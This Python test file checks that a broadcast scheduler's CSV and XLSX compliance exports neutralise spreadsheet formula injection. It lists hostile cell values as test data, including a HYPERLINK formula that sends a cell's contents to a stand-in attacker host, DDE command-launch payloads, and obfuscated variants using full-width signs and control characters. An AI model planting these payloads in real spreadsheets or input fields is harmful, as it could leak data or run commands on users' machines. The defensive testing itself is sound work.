"""Formula injection: text people typed must open in a spreadsheet as text, never run.

The only spreadsheet exports are the compliance report's (CSV and XLSX, from the API
and from the report page). Station names, plan numbers and requirement texts reach
them; content titles and airing notes do not (the airing log is a page, not a file).
"""

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from api.exports import looks_like_formula, safe_cell, to_csv, to_xlsx
from content.models import Plan, PlanRequirement
from core.db import session_scope
from tests.security.conftest import today, web_login

# What a spreadsheet may run, and how people have hidden it.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",  # ideographic space
    "＝1+1",  # full-width equals sign
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",  # small equals sign
    "\x07=1+1",  # a control character XML cannot even hold
]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_start_is_recognised(text: str) -> None:
    assert looks_like_formula(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Xã Chiềng Pằn", "2026-Q3", "", "12,5", "Tổng cộng"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text
    assert safe_cell(-5) == -5  # numbers stay numbers


def _assert_inert_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert not looks_like_formula(cell), cell
    return rows


def _assert_inert_xlsx(data: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                # Text cells: a workbook runs formulas only in formula cells ('f').
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


def test_exports_neutralise_every_hostile_start() -> None:
    rows = [[text, 1] for text in HOSTILE]
    _assert_inert_csv(to_csv(["Tên", "Số"], rows))
    cells = _assert_inert_xlsx(to_xlsx([("Bảng", ["Tên", "Số"], rows)]))
    # The workbook keeps the text as typed (a control character aside), with no apostrophe.
    assert HOSTILE[0] in cells and "＝1+1" in cells


def test_hostile_names_in_the_compliance_exports_stay_text(client, town, engine) -> None:
    planner = town.headers["planner_p"]
    for code, name in (("XA-A", HOSTILE[0]), ("XA-B", "＝1+1")):
        renamed = client.patch(f"/api/v1/stations/{code}", headers=planner, json={"name": name})
        assert renamed.status_code == 200, renamed.text
    booked = client.post(
        "/api/v1/bookings",
        headers=planner,
        json={
            "station": "TINH-P",
            "subtree": True,
            "source": "relay",
            "relay_url": "http://vov.example/vov1",
            "duration_s": 600,
            "title": "=cmd|' /C calc'!A0",
            "at": "05:40",
            "recurrence": {"freq": "daily", "start": today().isoformat()},
        },
    )
    assert booked.status_code == 201, booked.text
    tomorrow = today() + timedelta(days=1)
    for code in ("XA-A", "XA-B"):  # the planned side is read from the playlists
        pulled = client.get(f"/api/v1/stations/{code}/playlists/{tomorrow}", headers=planner)
        assert pulled.status_code == 200, pulled.text
    # A plan as the importer stores it, with what a hostile document could put in it.
    with session_scope(engine) as session:
        plan = Plan(number="@SUM(1)", title="-1+1", station_id=town.ids["TINH-P"])
        session.add(plan)
        session.flush()
        session.add(
            PlanRequirement(plan_id=plan.id, channel="commune_loudspeaker", text="+1+1 hằng tuần")
        )
        plan_id = plan.id
    query = {"station": "TINH-P", "period": tomorrow.strftime("%Y-%m")}
    with_plan = {**query, "plan": plan_id}
    auditor = town.headers["auditor_p"]
    seen = []
    for table, params in (("stations", query), ("requirements", with_plan)):
        answer = client.get(
            "/api/v1/reports/compliance.csv", headers=auditor, params={**params, "table": table}
        )
        assert answer.status_code == 200, answer.text
        assert answer.headers["content-disposition"].startswith("attachment;")
        seen += [cell for row in _assert_inert_csv(answer.content) for cell in row]
    assert "'" + HOSTILE[0] in seen and "'＝1+1" in seen
    assert "'@SUM(1)" in seen and "'+1+1 hằng tuần" in seen
    cells = []
    for params in (query, with_plan):
        workbook = client.get("/api/v1/reports/compliance.xlsx", headers=auditor, params=params)
        assert workbook.status_code == 200, workbook.text
        assert workbook.headers["content-disposition"].startswith("attachment;")
        cells += _assert_inert_xlsx(workbook.content)
    assert HOSTILE[0] in cells and "@SUM(1)" in cells

    # The other downloads: a calendar is a file to save, a playlist is for players.
    ics = client.get("/api/v1/stations/XA-A/schedule.ics", headers=planner)
    assert ics.status_code == 200
    assert ics.headers["content-disposition"].startswith("attachment;")
    assert ics.headers["x-content-type-options"] == "nosniff"
    m3u8 = client.get(f"/api/v1/stations/XA-A/playlists/{tomorrow}.m3u8", headers=planner)
    assert m3u8.status_code == 200
    assert m3u8.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in m3u8.headers["content-security-policy"]

    web_login(client, "auditor_p")
    page_csv = client.get(
        "/reports/compliance.csv",
        params={**with_plan, "table": "requirements"},
        follow_redirects=False,
    )
    assert page_csv.status_code == 200, page_csv.text
    assert "'@SUM(1)" in [cell for row in _assert_inert_csv(page_csv.content) for cell in row]
    page_xlsx = client.get("/reports/compliance.xlsx", params=query, follow_redirects=False)
    assert page_xlsx.status_code == 200
    assert HOSTILE[0] in _assert_inert_xlsx(page_xlsx.content)
